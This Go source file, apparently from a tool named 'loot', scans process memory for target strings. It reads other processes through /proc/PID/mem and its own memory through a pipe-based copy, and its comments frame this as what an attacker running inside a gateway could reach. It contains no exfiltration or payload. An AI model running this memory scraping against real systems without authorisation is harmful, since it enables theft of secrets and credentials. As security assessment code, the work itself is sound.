package loot

import (
	"bufio"
	"fmt"
	"io"
	"os"
	"strings"
	"syscall"
	"unsafe"
)

// mapping is one line of /proc/PID/maps that can be read.
type mapping struct {
	from, to uintptr
	name     string
}

func mappings(pid int) ([]mapping, error) {
	f, err := os.Open(proc(pid, "maps"))
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return readMappings(f)
}

func readMappings(f *os.File) ([]mapping, error) {
	var all []mapping
	lines := bufio.NewScanner(f)
	for lines.Scan() {
		var m mapping
		var perms string
		if n, _ := fmt.Sscanf(lines.Text(), "%x-%x %s", &m.from, &m.to, &perms); n < 3 || perms[0] != 'r' {
			continue
		}
		if fields := strings.Fields(lines.Text()); len(fields) > 5 {
			m.name = fields[5]
		}
		// What is larger is reserved address space, such as a race detector's shadow, not memory that holds anything.
		const largest = 16 << 30
		if m.name != "[vvar]" && m.name != "[vsyscall]" && m.to-m.from <= largest {
			all = append(all, m)
		}
	}
	return all, lines.Err()
}

// othersMemory reads another process through /proc/PID/mem, as a debugger would.
func (s *Survey) othersMemory(t Target, pid int) error {
	maps, err := mappings(pid)
	if err != nil {
		return err
	}
	mem, err := os.Open(proc(pid, "mem"))
	if err != nil {
		return err
	}
	defer mem.Close()
	read := false
	for _, m := range maps {
		s.mapping(t, pid, m, func(b []byte, at uintptr) int {
			n, _ := mem.ReadAt(b, int64(at))
			read = read || n > 0
			return max(n, 0)
		})
	}
	if !read {
		return os.ErrPermission
	}
	return nil
}

func (s *Survey) ownMappings() ([]mapping, error) {
	if s.maps == nil {
		return mappings(0)
	}
	if _, err := s.maps.Seek(0, io.SeekStart); err != nil {
		return nil, err
	}
	return readMappings(s.maps)
}

// ownMemory reads the attacker's own process, where nothing can refuse it: code that runs in the gateway reads all that the
// gateway has. Pages are copied through a pipe, because a write of an unmapped page fails where a read would crash.
func (s *Survey) ownMemory(t Target) error {
	maps, err := s.ownMappings()
	if err != nil {
		return err
	}
	r, w, err := os.Pipe()
	if err != nil {
		return err
	}
	defer r.Close()
	defer w.Close()
	in, out := int(r.Fd()), int(w.Fd())
	const page = 4096
	for _, m := range maps {
		s.mapping(t, os.Getpid(), m, func(b []byte, at uintptr) int {
			done := 0
			for done+page <= len(b) {
				n, _, errno := syscall.Syscall(syscall.SYS_WRITE, uintptr(out), at+uintptr(done), page)
				if errno != 0 || n == 0 {
					return done
				}
				if _, err := syscall.Read(in, b[done:done+int(n)]); err != nil {
					return done
				}
				done += int(n)
			}
			return done
		})
	}
	return nil
}

// mapping searches one mapping, but for the search's own buffer, which holds what was read just before.
func (s *Survey) mapping(t Target, pid int, m mapping, read func(b []byte, at uintptr) int) {
	overlap := (Longest(t.Needles) + 4095) &^ 4095
	buf := make([]byte, piece+overlap)
	own := uintptr(unsafe.Pointer(&buf[0]))
	if pid == os.Getpid() && m.from <= own && own < m.to {
		s.pieces(t, pid, mapping{m.from, own, m.name}, buf, read)
		m.from = min(own+uintptr(len(buf)), m.to)
	}
	s.pieces(t, pid, m, buf, read)
	clear(buf)
}

const piece = 1 << 20

// pieces searches a mapping in pieces of a megabyte that overlap as far as buf is longer.
func (s *Survey) pieces(t Target, pid int, m mapping, buf []byte, read func(b []byte, at uintptr) int) {
	for at := m.from; at < m.to; at += piece {
		b := buf[:min(uintptr(len(buf)), m.to-at)]
		n := read(b, at)
		s.Bytes += int64(n)
		s.hit("memory", fmt.Sprintf("pid %d at %x %s", pid, at, m.name), Find(t.Needles, b[:n]))
	}
}
